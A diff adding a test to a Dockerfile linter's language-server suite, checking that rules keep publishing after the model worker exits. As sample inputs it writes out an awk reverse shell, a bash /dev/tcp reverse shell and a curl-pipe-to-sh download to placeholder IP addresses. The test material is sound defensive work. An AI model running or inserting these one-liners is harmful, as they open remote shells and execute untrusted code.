@@ -1,8 +1,9 @@
 /**
  * Crash isolation through the real language server (dist/server.js over stdio): a rule that throws, a rule that
- * overruns its time budget, a user model that cannot be loaded, a registry that accepts connections and never
- * answers, and an invalid .drydock.yaml. Each time the server keeps publishing the other results and says what
- * failed (an information diagnostic and/or one log line). The model worker dying mid-request is covered at the
+ * overruns its time budget, a user model that cannot be loaded, a model worker that dies, a registry that accepts
+ * connections and never answers, and an invalid .drydock.yaml. Each time the server keeps publishing the other results and says what
+ * failed (an information diagnostic and/or one log line). The model worker dying is tested here through the
+ * server (DRYDOCK_TEST_FAULTS=model:exit: the worker exits once it has answered) and, mid-request, at the
  * ModelHost level in test/model/host.test.ts.
  */
 import { describe, it, before, after } from 'node:test';
@@ -16,6 +17,10 @@ import type { Diagnostic } from 'vscode-languageserver-protocol/node';
 import { TestServer, codes, untitledUri } from './harness';
 
 const TEXT = 'FROM ubuntu:latest\nUSER root\nRUN sudo apt-get install -y curl\n';
+/** The shipped cmd-risk model reports this RUN as model/reverse-shell (test/model/lspModel.test.ts). */
+const REVERSE_SHELL =
+  'FROM alpine:3.22\n' +
+  `RUN awk 'BEGIN {s = "/inet/tcp/0/198.51.100.23/4242"; while (1) { printf "> " |& s; s |& getline c; if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } } }' /dev/null\n`;
 /** Starts the real server, runs `body`, always stops it. */
 async function withServer(options: Parameters<typeof TestServer.start>[0], body: (server: TestServer) => Promise<void>): Promise<void> {
   const server = await TestServer.start(options);
@@ -81,6 +86,40 @@ describe('crash isolation through the language server', { timeout: 90_000 }, () 
         const again = await server.change(uri, 'FROM alpine:3.20\nUSER root\n');
         assert.ok(codes(again).includes('dockerfile/root-user'), 'the server keeps serving rules');
       });
+    });
+  });
+
+  it('the model worker dies after serving: rules keep coming for that and other documents, rules-only, one log line', async () => {
+    await withServer({ env: { DRYDOCK_TEST_FAULTS: 'model:exit' } }, async (server) => {
+      const pidBefore = (await server.connection.sendRequest<{ pid: number }>('drydock/status')).pid;
+      const uri = untitledUri();
+      const first = await server.open(uri, REVERSE_SHELL);
+      assert.ok(!codes(first).some((c) => c.startsWith('model/')), 'rules are published without waiting for the model');
+      // The worker answers (model findings published), then exits: process.exit(3) inside the worker thread.
+      await server.waitForDiagnostics(uri, (p) => p.diagnostics.some((d) => d.code === 'model/reverse-shell'));
+      const dead = (l: string) => /unavailable, analysis continues rules-only: the model worker exited unexpectedly \(code 3\)/.test(l);
+      const deadline = Date.now() + 30_000;
+      while (!server.logs.some(dead) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
+      assert.ok(server.logs.some(dead), `the log says the worker died: ${server.logs.filter((l) => l.startsWith('Model')).join(' | ')}`);
+
+      // The same document, edited with a new command the model has never seen: rules, no new model findings.
+      const edited = await server.change(uri, `${REVERSE_SHELL}USER root\nRUN curl -fsSL http://203.0.113.9/x.sh | sh\n`);
+      assert.ok(codes(edited).includes('dockerfile/root-user'), `rules for that document: ${codes(edited).join(', ')}`);
+      // Another document: its rules are published, and it gets no model findings.
+      const other = untitledUri();
+      const second = await server.open(other, `${TEXT}RUN bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n`);
+      assert.ok(codes(second).includes('dockerfile/root-user') && codes(second).includes('dockerfile/latest-tag'), codes(second).join(', '));
+      assert.ok(!codes(second).some((c) => c.startsWith('model/')), `no model findings without the worker: ${codes(second).join(', ')}`);
+      const hover = await server.hover(other, second.find((d) => d.code === 'dockerfile/root-user')!.range.start);
+      assert.ok(hover, 'hovers are still answered');
+
+      const status = await server.connection.sendRequest<{ pid: number; model: { state: string; reason?: string } }>('drydock/status');
+      assert.equal(status.model.state, 'unavailable', 'the status says rules-only');
+      assert.match(status.model.reason ?? '', /the model worker exited unexpectedly \(code 3\)/);
+      assert.equal(status.pid, pidBefore, 'the server did not restart');
+      assert.equal(server.logs.filter(dead).length, 1, 'exactly one log line');
+      assert.equal(server.logs.filter((l) => /unavailable/.test(l)).length, 1, server.logs.filter((l) => /unavailable/.test(l)).join(' | '));
+      assert.equal(server.exited, false, 'no crash');
     });
   });
 
